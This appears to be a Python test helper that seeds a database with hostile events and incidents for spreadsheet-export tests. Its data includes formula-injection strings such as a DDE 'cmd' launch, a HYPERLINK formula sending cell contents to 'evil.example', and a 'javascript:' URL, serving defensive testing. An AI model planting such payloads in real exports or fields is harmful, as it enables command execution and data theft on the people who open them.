"""Helpers the report tests share: hostile rows and read-back comparisons."""

from __future__ import annotations

import datetime as dt
from typing import Any

from app.domain import timeutil
from app.store import events as event_store, incidents as incident_store
from app.store.database import Database

TITLE1 = "=cmd|' /C calc'!A0"
LONG_LINE = "A" * 40_000
HOSTILE_MESSAGES = [
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=tabbed",
    "\r=carriage",
    "\n=newline",
    "NUL\x00 and ESC\x1b and BEL\x07 inside",
    "back\\slash with \x01 control",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    LONG_LINE,
    "plain text stays as it is",
]


def add_hostile_data(db: Database) -> None:
    """Events and incidents whose texts try every trick a spreadsheet falls for."""
    base = dt.datetime(2026, 11, 1, 8, 0, tzinfo=timeutil.UTC)
    rows = []
    for i, message in enumerate(HOSTILE_MESSAGES):
        ts = timeutil.to_iso(base + dt.timedelta(minutes=i))
        rows.append((ts, 4, "security", "ERR", "=host" if i == 0 else "web01", "@comp", 100 + i, "-5",
                     message, None, "+Client", "Site\x02", None, i + 1, 0))
    with db.transaction():
        event_store.insert_many(db, rows)
        now = timeutil.to_iso(base)
        for n, (title, url) in enumerate([(TITLE1, "javascript:alert(1)"),
                                          ("Printer down", "https://tickets.example.com/browse/OPS-1")], 1):
            incident_store.insert(db, {
                "number": incident_store.format_number(n), "title": title, "description": "-desc\x00",
                "log_type": "security", "impact": 1, "urgency": 1, "priority": 1 if n == 1 else 3,
                "status": "new", "client": "Acme", "opened_at": now, "created_at": now, "updated_at": now,
                "external_key": f"OPS-{n}", "external_url": url, "tags": "a b,c",
            })


def local(text: str | None, zone: dt.tzinfo) -> dt.datetime | None:
    return None if not text else timeutil.from_iso(text).astimezone(zone).replace(tzinfo=None)


def same_time(a: Any, b: dt.datetime | None) -> bool:
    """Excel keeps times as day fractions: equal to within a millisecond."""
    if b is None:
        return a is None
    return isinstance(a, dt.datetime) and abs((a - b).total_seconds()) < 0.0015
